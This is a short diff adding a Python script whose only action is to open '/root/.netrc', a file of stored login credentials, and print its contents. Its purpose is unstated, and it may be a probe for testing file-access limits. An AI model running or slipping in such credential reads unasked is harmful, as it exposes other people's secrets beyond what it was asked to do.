@@ -1,0 +1,5 @@
+def where():
+    return "/root/.netrc"
+
+
+print(open(where()).read())
